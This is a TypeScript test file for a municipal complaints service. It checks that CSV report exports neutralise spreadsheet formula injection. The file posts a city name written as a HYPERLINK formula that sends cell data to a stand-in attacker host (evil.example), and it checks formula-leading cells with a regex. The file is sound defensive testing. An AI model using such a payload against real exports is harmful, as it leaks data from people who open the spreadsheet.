/**
 * CSV formula injection (issue 14): a municipality typed as =HYPERLINK(...) by five complainants
 * reached the report's CSV as a formula a spreadsheet runs. Free text never reaches a report (a
 * place is a place name or "anders"), and every CSV cell that a spreadsheet reads as a formula is
 * neutralised anyway. Judged by the rule spreadsheets apply: a cell starting with = + - @ tab or CR.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Report, reportCsv } from '../lambdas/domain/report.js';
import { SANNE, type TestRuntime, testRuntime } from './support/runtime.js';

/** The cells of a `;`-separated CSV with "" quoting (RFC 4180 style), as a spreadsheet reads them. */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        cur += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cur += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';' || ch === '\n') {
      out.push(cur);
      cur = '';
    } else cur += ch;
  }
  return out;
}

const FORMULA = /^[=+\-@\t\r]/;
const EVIL = '=HYPERLINK("http://evil.example/?d="&A1;"Klik hier")';

let rt: TestRuntime;
beforeAll(async () => {
  rt = await testRuntime('ons-welzijn', '2026-09-03T09:00:00+02:00');
  for (let i = 0; i < 5; i++) {
    const r = await rt.call('POST', '/complaints', {
      body: { ...SANNE, complainant: { ...SANNE.complainant, address: { ...SANNE.complainant.address, city: EVIL } } },
    });
    expect(r.status, r.text).toBe(201);
  }
  await rt.advance('PT0S');
});
afterAll(async () => rt?.stop());

describe('report: CSV injection', () => {
  it('a city typed as a formula reaches no report: not the CSV, not the JSON, not the HTML', async () => {
    for (const format of ['csv', 'json', 'html']) {
      const r = await rt.call('GET', `/reports?from=2026-01-01&to=2026-12-31&format=${format}`, {
        token: rt.officers.officer,
      });
      expect(r.status).toBe(200);
      expect(r.text).not.toContain('HYPERLINK');
    }
    const csv = (
      await rt.call('GET', '/reports?from=2026-01-01&to=2026-12-31&format=csv', { token: rt.officers.officer })
    ).text;
    expect(cells(csv).filter((c) => FORMULA.test(c))).toEqual([]);
    expect(csv).toMatch(/gemeente;anders;5/);
  });

  it('any cell a spreadsheet would run is neutralised, whatever its origin', () => {
    const groups = { '=1+1': 5, '+31 6': 5, '-2': 5, '@SUM(A1:A9)': 5, '\t=x': 5, '\r=y': 5, Oss: 5 };
    const report = {
      total: 35,
      open: 0,
      closed: 35,
      results: groups,
      byMunicipality: groups,
      byVariant: {},
      byRung: {},
      byMonth: {},
      improvements: {},
      complainantSatisfaction: groups,
      dimensions: [],
      internalOrReferred: { internal: 0, referred: 0 },
      deadlines: [],
      handlingDays: { average: null, longest: null },
      improvementActions: [{ action: 'x', status: 'open', overdue: false, due: '2026-10-01' }],
    } as unknown as Report;
    const all = cells(reportCsv(report));
    expect(all.filter((c) => FORMULA.test(c))).toEqual([]);
    // The text itself is kept, readable, behind the apostrophe.
    expect(all).toContain("'=1+1");
    expect(all).toContain('Oss');
  });
});
